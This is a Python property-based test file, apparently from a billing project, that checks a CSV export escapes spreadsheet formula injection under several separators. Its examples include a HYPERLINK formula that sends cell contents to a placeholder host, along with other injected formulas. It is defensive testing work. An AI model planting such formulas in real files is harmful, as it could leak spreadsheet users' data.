"""Whatever stands in a cell of text, no spreadsheet finds a formula in the file, by whichever separator it reads it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from billing.lib.spreadsheets import csv_of

BEGAN = datetime(2026, 11, 20, 12, tzinfo=UTC).replace(tzinfo=None)
SEPARATORS = (",", ";", "\t")
odd_text = st.text(alphabet=";,\t\r\n\"' =+-@＝4a", max_size=12)


def written(*texts: str) -> str:
    return "".join(csv_of(("Began", "From", "To", "Seconds"), [(BEGAN, *texts, 60)]))


def cells(file: str, separator: str) -> list[str]:
    rows = csv.reader(io.StringIO(file.lstrip("\ufeff"), newline=""), delimiter=separator)
    return [cell for row in rows for cell in row]


@given(odd_text, odd_text)
@example('44;=HYPERLINK("http://example.com/?"&A1);', "86")
@example("44;=1+1;", "86")
@example("44;", "=1+1")
@example('44; "=1+1', "\n=1+1")
@example("44\t@SUM(1)", "＝1+1")
def test_no_cell_begins_as_a_formula_by_whichever_separator_a_file_is_read(caller: str, callee: str) -> None:
    file = written(caller, callee)
    for separator in SEPARATORS:
        assert [cell for cell in cells(file, separator) if cell.lstrip(' \t\r\n"')[:1] in tuple("=+-@＝")] == []


@pytest.mark.parametrize(
    ("text", "stands"),
    [
        ("44;=1+1;", "44;'=1+1;"),
        ("44;55", "44;55"),
        ('Zoë; the "one", x-y=z', 'Zoë; the "one", x-y=z'),
        ("a\r\nb", "a\r\nb"),
        ("sip-7", "sip-7"),
        ("+44", "'+44"),
    ],
)
def test_an_apostrophe_stands_only_where_a_formula_could_begin(text: str, stands: str) -> None:
    assert cells(written(text, "86"), ",")[4:] == ["2026-11-20 12:00:00", stands, "86", "60"]
